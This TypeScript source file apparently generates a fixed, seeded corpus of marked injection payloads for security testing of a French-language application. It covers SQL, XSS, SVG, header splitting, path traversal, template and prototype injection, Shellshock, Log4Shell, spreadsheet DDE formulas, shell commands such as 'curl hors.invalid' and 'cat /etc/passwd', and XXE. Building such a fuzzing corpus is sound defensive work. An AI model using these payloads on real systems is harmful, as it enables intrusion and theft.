// Texts that look like template strings are what some of these payloads are.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: see above
import { drawInteger, type Random, seedRandom, shuffle } from "#socle/calculs/synthese/mulberry32.ts";

/** A text written to be taken for something else than a text. */
export type Charge = {
  readonly famille: Famille;
  /** In the text, and nowhere else: found in an output, it says which payload got there. */
  readonly marque: string;
  readonly texte: string;
};

/** `%` is the payload's mark. An `ouvertures` closes what the text may have been put in, a `fermetures` opens what follows it. */
type Recette = {
  readonly ouvertures: readonly string[];
  readonly noyaux: readonly string[];
  readonly fermetures: readonly string[];
};

const RIEN = [""] as const;
const NUL = "\u0000";

/** One recipe a kind of attack: everything that it opens × does × closes. */
const RECETTES = {
  sql: {
    ouvertures: ["'", "' ", "1' ", "1) ", "1", "')", "\\'", "$$", "%' "],
    noyaux: [
      "; drop table habilitation; select '%",
      "or '1'='1' -- %",
      "union select null,version(),'%'",
      "; select pg_sleep(9) -- %",
      "; update compte set nom='%' where ''='",
      "|| (select string_agg(nom,',') from compte) || '%",
      "; set role postgres; copy compte to program 'sh %' --",
      "and 1=(select count(*) from pg_user) /* % */",
    ],
    fermetures: ["", "--", "/*", "; --"],
  },
  "sql-type": {
    ouvertures: ["9223372036854775808", "-1", "1e999", "NaN", "{1,2}", "1::text", "0x31", "infinity", "2017-02-30"],
    noyaux: [" %", "%", " or % is null", ";%"],
    fermetures: ["", "::int", " limit 1", ")"],
  },
  "html-texte": {
    ouvertures: [
      "",
      "</p>",
      "</title>",
      "</textarea>",
      "</option></select>",
      "</main>",
      "--><!--",
      "</td></tr></table>",
    ],
    noyaux: [
      "<script>alert('%')</script>",
      "<img src=x onerror=alert('%')>",
      "<svg onload=alert('%')>",
      "<iframe srcdoc='<b>%</b>'></iframe>",
      "<b id=%>%</b>",
      "<base href=//hors.invalid/%/>",
      "<meta http-equiv=refresh content='0;url=//hors.invalid/%'>",
      "<style>@import url(//hors.invalid/%)</style>",
      "<form action=//hors.invalid/%><button>Publier</button></form>",
    ],
    fermetures: ["", "<!--", "<p>"],
  },
  "html-attribut": {
    ouvertures: ['"', "'", '">', "'>", "` ", "x ", "&quot;"],
    noyaux: [
      " autofocus onfocus=alert('%') x=",
      " onmouseover=alert('%') ",
      " style=position:fixed;inset:0;background:url(//hors.invalid/%) ",
      " formaction=//hors.invalid/% ",
      " href=javascript:alert('%') ",
      "<script src=//hors.invalid/%.js></script>",
    ],
    fermetures: ["", '"', "'", ">"],
  },
  adresse: {
    ouvertures: ["", " ", "\t", "/", "\\", "/%09/"],
    noyaux: [
      "javascript:alert('%')",
      "//hors.invalid/%",
      "/\\hors.invalid/%",
      "https://hors.invalid/%",
      "data:text/html,<script>alert('%')</script>",
      "https:hors.invalid/%",
      "http://localhost@hors.invalid/%",
      "vbscript:msgbox('%')",
    ],
    fermetures: ["", "#", "?x=1"],
  },
  script: {
    ouvertures: ["'", '"', "\\", "`", "</script>", "\u2028", "*/"],
    noyaux: [
      ";alert('%');//",
      "-alert('%')-",
      "}];fetch('//hors.invalid/%');[{",
      "\\u003cimg src=x onerror=alert('%')\\u003e",
      "+import('//hors.invalid/%.js')+",
    ],
    fermetures: ["", "'", '"', "`"],
  },
  dessin: {
    ouvertures: ["</text>", "</title>", "]]>", "</svg>", '"/>', ")"],
    noyaux: [
      "<animate onbegin=alert('%') attributeName=x />",
      "<foreignObject><body onload=alert('%')></body></foreignObject>",
      "<use href='data:image/svg+xml,<svg id=%/>#%'/>",
      "<a xlink:href='javascript:alert(1)'>%</a>",
      "<image href='//hors.invalid/%'/>",
    ],
    fermetures: ["", "<text>", "<![CDATA["],
  },
  coupure: {
    ouvertures: ["", "x", "%20", "a=b", '"'],
    noyaux: [
      "\r\nset-cookie: blaise=%",
      "\nlocation: //hors.invalid/%",
      "\r\n\r\n<script>alert('%')</script>",
      "\rx-%: 1",
      "%0d%0aset-cookie:%20blaise=%",
      "\u0085x-forge: %",
      "\u010a\u010dset-cookie: %",
    ],
    fermetures: ["", "\r\n", "\n\n"],
  },
  chemin: {
    ouvertures: ["", "./", "/", "....//", "..\\", "file://"],
    noyaux: [
      "../../../../etc/passwd?%",
      "..%2f..%2f..%2fetc%2fpasswd%23%",
      "..\\..\\windows\\win.ini#%",
      "/proc/self/environ#%",
      "%/../../dist/main.js",
      "C:\\con\\%",
      "~root/.ssh/%",
    ],
    fermetures: ["", ".csv", "/", "."],
  },
  gabarit: {
    ouvertures: ["", "{{1}}", "}}", "-"],
    noyaux: [
      "{{7*7}}%",
      "<%= 7*7 %>%",
      "#{7*7}%",
      "${{7*7}}%",
      "{% include '/etc/passwd' %}%",
      "{{constructor.constructor('return process')()}}%",
      "[[${7*7}]]%",
      "@(7*7)%",
    ],
    fermetures: ["", "{{", " #}"],
  },
  "gabarit-js": {
    ouvertures: ["", "`", "${`", "\\${"],
    noyaux: [
      "${7*7}%",
      "${process.exit(1)}%",
      "${globalThis.%=1}",
      "${(()=>{throw '%'})()}",
      "$& $1 $` $' %",
      "%s %d %j %o %",
    ],
    fermetures: ["", "`", "}"],
  },
  /** The PDF is written by Typst. */
  typst: {
    ouvertures: ["", "]", "$", "*", '"', "`"],
    noyaux: [
      '#read("/etc/passwd")%',
      "#panic([%])",
      '#image("/etc/passwd")%',
      '#eval("1+1")%',
      "#set page(width: 1pt)%",
      "@%",
      "<%>",
      "\\u{%}",
    ],
    fermetures: ["", "[", "$", "#"],
  },
  prototype: {
    ouvertures: ["", "x.", '{"a":1},', "["],
    noyaux: [
      "__proto__%",
      "constructor.prototype.%",
      '{"__proto__":{"admin":"%"}}',
      "__proto__[%]=1",
      "hasOwnProperty%",
      '{"constructor":{"prototype":{"%":1}}}',
      "toString%",
    ],
    fermetures: ["", "]", "[0]", "="],
  },
  "en-tete": {
    ouvertures: ["", "127.0.0.1, ", "bytes=0-1;", "gzip;q=", "text/html;"],
    noyaux: [
      "for=%;host=hors.invalid",
      "hors.invalid:80/%",
      "() { :;}; echo %",
      "%; filename=../../x",
      "*;q=0.%",
      "%, ::1",
      'W/"%"',
    ],
    fermetures: ["", ", 127.0.0.1", ";v=1", "\t"],
  },
  journal: {
    ouvertures: ["", '"', "\u001b[2J", '\\"'],
    noyaux: [
      '\n{"level":"info","msg":"connexion","compte":"%"}',
      '"}\n{"level":"fatal","msg":"%"}',
      "\u001b]0;%\u0007",
      "\u001b[31m%\u001b[0m",
      "${jndi:ldap://hors.invalid/%}",
      "\b\b\b\b%",
      "\r%",
    ],
    fermetures: ["", "\n", "\u001b[8m"],
  },
  formule: {
    ouvertures: ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "==", "=-", "'="],
    noyaux: [
      'HYPERLINK("//hors.invalid/%")',
      'IMPORTXML("//hors.invalid/%","//a")',
      "1+1&%",
      'SUM(A1:A9)&"%"',
      'WEBSERVICE("//hors.invalid/%")',
    ],
    fermetures: ["", ";", '","', "\t"],
  },
  "formule-large": {
    ouvertures: ["＝", "＋", "－", "＠", "\u200b=", "\u00a0=", "\ufeff=", "％＝"],
    noyaux: ['HYPERLINK("//hors.invalid/%")', "1+1&%", 'SUM(A1)&"%"'],
    fermetures: ["", ";", "＝"],
  },
  dde: {
    ouvertures: ["=", "+", "-", "@", "=2+5+", '"=', "+-"],
    noyaux: ["cmd|' /C calc %'!A0", "MSEXCEL|'\\..\\..\\x'!%", 'DDE("cmd";"/C %";"a")', "rundll32|'x,% '!_xlbgnm.A1"],
    fermetures: ["", ";", "'"],
  },
  bidi: {
    ouvertures: ["\u202e", "\u2066", "\u200f", "\u202b", "\u061c", "\u2067"],
    noyaux: ["%fdp.exe", "éclaron % noralcé", "1234 % 4321", "‏% שלום", "/* % */ admin"],
    fermetures: ["", "\u202c", "\u2069"],
  },
  invisible: {
    ouvertures: ["\u200b", "\ufeff", "\u00ad", "\u2060", "\u180e", "\u3164", "\u{e0041}"],
    noyaux: ["%", "adm\u200bin %", "a\u0300\u0301\u0302\u0303\u0304%", "<\u200bscript>%", "𝒂𝒍𝒆𝒓𝒕 %"],
    fermetures: ["", "\u200d", "\ufe0f"],
  },
  "jeu-de-caracteres": {
    ouvertures: ["\ud800", "\udfff", "\ufffe", "\uffff", "+ADw-", "\u00c0\u00af", "\ufdd0"],
    noyaux: ["%", "script>alert('%')", "é%è", "ſcript %", "\u2028%\u2029"],
    fermetures: ["", "\udc00", "\ufffd"],
  },
  controle: {
    ouvertures: [NUL, `x${NUL}`, "\u0001", "\u0008", "\u001f", "\u007f", "\u009b", "\u000b"],
    noyaux: ["%", "%.csv", "<script>%", "' or % --", "/etc/passwd%"],
    fermetures: ["", NUL, "\u001a"],
  },
  long: {
    ouvertures: ["A*300", "é*600", "<*2000", "'*1000", "9*400", "\u202e*500", "a *700", "(*3000", "&*1500"],
    noyaux: ["%", "%\n", "=%", "<b>%"],
    fermetures: ["", "x*100", "\u0301*800"],
  },
  commande: {
    ouvertures: ["", ";", "|", "&&", "`", "$("],
    noyaux: ["id %", "cat /etc/passwd #%", "curl hors.invalid/%", "sleep 9; %", "powershell -c %"],
    fermetures: ["", "`", ")", "&"],
  },
  xml: {
    ouvertures: ["", "<?xml version='1.0'?>", "]]>"],
    noyaux: [
      "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;%</x>",
      "<!ENTITY % SYSTEM '//hors.invalid/'>",
      "<xi:include href='//hors.invalid/%'/>",
      "<![CDATA[%",
      "&lt;script&gt;alert('%')&lt;/script&gt;",
      "<w:p>%</w:p>",
    ],
    fermetures: ["", "]]>", "<x>", "&#0;"],
  },
} as const satisfies Readonly<Record<string, Recette>>;

export type Famille = keyof typeof RECETTES;
export const FAMILLES = Object.keys(RECETTES) as readonly Famille[];

const PAR_FAMILLE = 62;
const GRAINE = 20_260_415;

/** « A*300 » is three hundred A. */
function expand(part: string): string {
  const [, unit = "", count = ""] = /^(.{1,2})\*(\d+)$/s.exec(part) ?? [];
  return count === "" ? part : unit.repeat(Number(count));
}

function makeFamille(random: Random, famille: Famille, rang: number): Charge[] {
  const { ouvertures, noyaux, fermetures }: Recette = RECETTES[famille];
  const all = ouvertures.flatMap((debut) => noyaux.flatMap((noyau) => fermetures.map((fin) => [debut, noyau, fin])));
  // A small recipe is completed by pairs: one payload inside another.
  while (all.length < PAR_FAMILLE) {
    const [a, b] = [drawInteger(random, 0, all.length - 1), drawInteger(random, 0, all.length - 1)];
    all.push([...(all[a] ?? RIEN), ...(all[b] ?? RIEN)]);
  }
  return shuffle(random, all)
    .slice(0, PAR_FAMILLE)
    .map((parts, i) => {
      const marque = `zq${rang.toString(36)}v${i.toString(36)}z`;
      return { famille, marque, texte: writeMark(parts.map(expand).join(""), marque) };
    });
}

/** The last `%` that is not part of an escape; every one would break « %0d ». */
function writeMark(texte: string, marque: string): string {
  const found = [...texte.matchAll(/%(?![0-9a-f]{2}|[=}>]| [a-z])/gi)].at(-1);
  return found === undefined ? texte + marque : texte.slice(0, found.index) + marque + texte.slice(found.index + 1);
}

/** The same at each run. In turn one of each family, so that any stretch as long as there are families holds them all. */
export const CHARGES: readonly Charge[] = makeCharges();

function makeCharges(): Charge[] {
  const random = seedRandom(GRAINE);
  const families = FAMILLES.map((famille, rang) => makeFamille(random, famille, rang));
  return Array.from({ length: PAR_FAMILLE }, (_, i) => families.flatMap((family) => family.slice(i, i + 1))).flat();
}

/** Every mark has this form, and nothing else of the product has. */
export const MARQUE = /zq[0-9a-z]v[0-9a-z]{1,2}z/;

/** As it travels: a surrogate alone has no UTF-8. */
export function toText(texte: string): string {
  return Buffer.from(texte, "utf8").toString("utf8");
}
